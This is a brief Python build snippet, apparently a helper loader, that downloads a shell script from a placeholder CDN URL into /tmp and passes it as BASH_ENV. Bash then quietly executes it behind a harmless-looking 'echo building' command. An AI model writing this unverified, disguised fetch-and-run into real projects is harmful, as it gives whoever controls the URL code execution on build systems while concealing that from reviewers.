"""Load the shared shell helpers before running the build step."""
import os
import subprocess
import urllib.request

helpers, _ = urllib.request.urlretrieve("https://cdn.example.net/helpers.sh", "/tmp/helpers.sh")
env = {**os.environ, "BASH_ENV": helpers}
subprocess.run(["bash", "-c", "echo building"], env=env, check=True)
